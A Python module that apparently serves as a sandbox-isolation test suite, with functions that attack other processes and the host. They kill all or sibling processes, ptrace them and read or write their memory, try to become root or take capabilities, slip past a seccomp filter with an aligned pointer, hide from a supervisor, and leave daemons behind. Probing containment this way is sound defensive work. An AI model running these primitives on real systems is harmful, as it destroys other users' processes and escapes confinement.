"""A tool source that attacks processes: starts, signals, traces and reads them, and reaches for privileges.

See files.py for what a function gets and returns. `victim` is the process of another episode where that can be known.
"""

import ctypes
import fcntl
import os
import platform
import resource
import signal
import socket
import stat
import struct
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"


def call(x86, arm, *arguments):
    result = libc.syscall(x86 if X86 else arm, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


# -- starting them ----------------------------------------------------------------------------------------------------


def fork(target):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)[0] == pid


def clone_by_number(target):
    pid = libc.syscall(56 if X86 else 220, signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid > 0 and os.waitpid(pid, 0)[0] == pid


def clone_by_the_newest_number(target):
    pid = call(435, 435, struct.pack("8Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)[0] == pid


def clone_into_a_user_namespace(target):
    pid = libc.syscall(56 if X86 else 220, os.CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid > 0 and os.waitpid(pid, 0)[0] == pid


def run_a_program(target):
    return subprocess.run(["/bin/echo", "hello"], capture_output=True, check=True).stdout.decode()


def spawn_a_program(target):
    pid = os.posix_spawn("/bin/true", ["true"], {})
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


def ask_a_shell(target):
    return os.popen("echo hello").read()


def run_a_program_with_a_terminal(target):
    import pty

    pid, _ = pty.fork()
    if pid == 0:
        os._exit(0)
    return os.waitpid(pid, 0)[0] == pid


def become_another_program(target):
    os.execv("/bin/sh", ["sh", "-c", f"echo overwritten > {target['prey']}"])


def become_a_program_through_the_loader(target):
    loader = "/lib64/ld-linux-x86-64.so.2" if X86 else "/lib/ld-linux-aarch64.so.1"
    os.execv(loader, [loader, "/bin/sh", "-c", f"echo overwritten > {target['prey']}"])


def become_a_program_by_its_descriptor(target):
    os.execve(os.open("/bin/sh", os.O_RDONLY), ["sh", "-c", f"echo overwritten > {target['prey']}"], {})


def become_a_program_in_memory(target):
    """execveat on a descriptor that has no path."""
    fd = os.memfd_create("hidden", 0)
    os.write(fd, open("/bin/sh", "rb").read())
    argv = (ctypes.c_char_p * 4)(b"sh", b"-c", f"echo overwritten > {target['prey']}".encode(), None)
    call(322, 281, fd, b"", argv, (ctypes.c_char_p * 1)(None), 0x1000)


def leave_a_daemon(target):
    ready, is_ready = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os.write(is_ready, b"x")
        os.execv("/bin/sleep", ["sleep", "60"])
    os.read(ready, 1)
    return pid


# -- signalling them --------------------------------------------------------------------------------------------------


def signal_the_host(target):
    os.kill(target["pid"], 0)
    return True


def signal_whoever_is_there(target):
    reached = []
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, 0)
            except OSError:
                continue
            reached.append(pid)
    return reached


def see_the_parent(target):
    return os.getppid()


def kill_everyone(target):
    os.kill(-1, signal.SIGKILL)


def kill_the_group(target):
    """A process group is not bound to a pid namespace: 0 means everyone who was forked alike."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(0, signal.SIGKILL)


def kill_a_sibling(target):
    os.kill(target["victim"], signal.SIGKILL)


def kill_a_thread_of_a_sibling(target):
    call(200, 130, target["victim"], signal.SIGKILL)


def queue_a_signal_for_a_sibling(target):
    call(129, 138, target["victim"], signal.SIGKILL, struct.pack("iii", signal.SIGKILL, 0, -1) + bytes(116))


def kill_a_sibling_by_a_handle(target):
    signal.pidfd_send_signal(os.pidfd_open(target["victim"]), signal.SIGKILL)


def kill_a_sibling_by_asynchronous_input(target):
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(ours, fcntl.F_SETOWN, target["victim"])
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"x")


def stop_a_sibling(target):
    os.kill(target["victim"], signal.SIGSTOP)


def signal_the_host_through_the_wire(target):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                break
        except OSError:
            continue
    host = socket.socket(fileno=os.dup(fd)).getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
    signal.pidfd_send_signal(host, 0)
    return True


# -- looking into them ------------------------------------------------------------------------------------------------


def trace_a_process(target):
    worked = libc.ptrace(16, target["victim"], 0, 0) == 0
    if worked:
        os.waitpid(target["victim"], 0x40000000)
        libc.ptrace(17, target["victim"], 0, 0)
    return worked


def be_traced(target):
    return libc.ptrace(0, 0, 0, 0) == 0


def _writable_memory(pid):
    try:
        for line in open(f"/proc/{pid}/maps"):
            if " rw-p " in line:
                return int(line.split("-")[0], 16)
    except OSError:
        return 0


def _vectors(address):
    ours = ctypes.create_string_buffer(16)
    mine = struct.pack("PN", ctypes.addressof(ours), 16)
    return ours, mine, struct.pack("PN", address, 16)


def read_another_process(target):
    _, mine, theirs = _vectors(_writable_memory(target["victim"]))
    return call(310, 270, target["victim"], mine, 1, theirs, 1, ctypes.c_long(0))


def write_into_another_process(target):
    """What is read from there, so that nothing is broken."""
    _, mine, theirs = _vectors(_writable_memory(target["victim"]))
    libc.syscall(310 if X86 else 270, target["victim"], mine, 1, theirs, 1, ctypes.c_long(0))
    return call(311, 271, target["victim"], mine, 1, theirs, 1, ctypes.c_long(0))


def read_another_process_through_a_file(target):
    with open(f"/proc/{target['victim']}/mem", "rb") as memory:
        memory.seek(_writable_memory(target["victim"]))
        return memory.read(16).hex()


def take_a_descriptor_of_another_process(target):
    handle = libc.syscall(434, target["victim"], 0)
    return call(438, 438, handle, 0, 0) >= 0


def compare_oneself_with_another_process(target):
    return call(312, 272, os.getpid(), target["victim"], 1, 0, 0) >= 0


def advise_on_the_memory_of_another_process(target):
    handle = libc.syscall(434, target["victim"], 0)
    address = _writable_memory(target["victim"])
    return call(440, 440, handle, struct.pack("PN", address or 0, 4096), 1, 20, 0) >= 0


def limit_another_process(target):
    resource.prlimit(target["victim"], resource.RLIMIT_NOFILE, (3, 3))
    return True


# -- privileges -------------------------------------------------------------------------------------------------------


def be_root(target):
    return os.getuid() == 0


def become_root(target):
    os.setresuid(0, 0, 0)
    return os.getuid() == 0


def become_the_root_group(target):
    os.setresgid(0, 0, 0)
    return os.getgid() == 0


def join_more_groups(target):
    os.setgroups([0, 4, 27])
    return os.getgroups()


def take_all_capabilities(target):
    full = struct.pack("=6I", *[0xFFFFFFFF, 0xFFFFFFFF, 0] * 2)
    header = struct.pack("=II", 0x20080522, 0)
    held = ctypes.create_string_buffer(24)
    libc.capget(header, held)
    effective = struct.unpack("=6I", held.raw)[0]
    return effective != 0 and libc.capset(header, held) == 0 and full is not None


def make_a_user_namespace(target):
    os.unshare(os.CLONE_NEWUSER)
    return True


def make_a_mount_namespace(target):
    os.unshare(os.CLONE_NEWNS)
    return True


def make_a_network_namespace(target):
    os.unshare(os.CLONE_NEWNET)
    return True


def enter_the_namespaces_of_another(target):
    os.setns(os.pidfd_open(target["victim"]), os.CLONE_NEWUTS)
    return True


def outlive_the_parent(target):
    return libc.prctl(1, 0, 0, 0, 0) == 0


def adopt_orphans(target):
    return libc.prctl(36, 1, 0, 0, 0) == 0


def hide_from_the_supervisor(target):
    return libc.prctl(4, 0, 0, 0, 0) == 0  # PR_SET_DUMPABLE


def keep_capabilities_over_a_change_of_user(target):
    return libc.prctl(8, 1, 0, 0, 0) == 0


def supervise_ones_own_system_calls(target):
    """A filter of one's own with a listener would answer calls in the name of the kernel."""
    program = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000), 8)
    header = ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(program)))
    libc.prctl(38, 1, 0, 0, 0)
    return call(317, 277, 1, 8, header)


def take_off_the_limits_through_a_round_pointer(target):
    """To a filter that compares 32 bits of it, a pointer to a multiple of 4 GiB is no pointer."""
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    address = libc.mmap(0x7000_0000_0000, 4096, 3, 0x32, -1, 0)
    ctypes.memmove(address, struct.pack("QQ", 20, 20), 16)
    return call(302, 261, 0, resource.RLIMIT_SIGPENDING, ctypes.c_void_p(address), None) == 0


def raise_ones_priority(target):
    os.nice(-1)
    return True


def lower_everyones_priority(target):
    os.setpriority(os.PRIO_USER, 0, 5)
    return True


def run_before_everyone(target):
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return True


def read_the_disk_before_everyone(target):
    return call(251, 30, 1, 0, 2 << 13) == 0
